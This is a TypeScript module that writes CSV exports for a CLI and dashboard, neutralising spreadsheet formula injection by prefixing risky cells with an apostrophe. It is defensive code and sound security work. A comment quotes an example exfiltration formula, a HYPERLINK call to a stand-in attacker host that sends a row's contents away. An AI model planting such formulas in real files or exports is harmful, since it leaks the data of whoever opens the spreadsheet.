// CSV as the CLI's --csv and the dashboard's export write it: one format for both.

// A text cell that starts with one of these is a formula to Excel, LibreOffice and Google Sheets.
// The texts of a CSV here are others' choice: the model a request named (kept even when refused),
// a key's name, an email. A formula there runs in the spreadsheet of whoever opens the export
// (`=HYPERLINK("https://evil.example/?"&A2, …)` sends the row away), so it is written as text.
const FORMULA_START = /^[=+\-@\t\r]/;
// Numbers written as text (an exact decimal, a negative amount) are numbers, never formulas.
const NUMBER = /^[-+]?\d+(\.\d+)?$/;

/**
 * RFC 4180: every field with a comma, quote or line break is quoted, quotes doubled; CRLF line ends.
 * A text that a spreadsheet would read as a formula starts with an apostrophe, which the
 * spreadsheets show as nothing but keep the text as text.
 */
export function csv(header: string[], rows: (string | number | null)[][]): string {
  const field = (v: string | number | null) => {
    let s = v === null ? "" : String(v);
    if (typeof v === "string" && FORMULA_START.test(s) && !NUMBER.test(s)) s = `'${s}`;
    return /[",\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
  };
  return [header, ...rows].map((r) => r.map(field).join(",")).join("\r\n") + "\r\n";
}
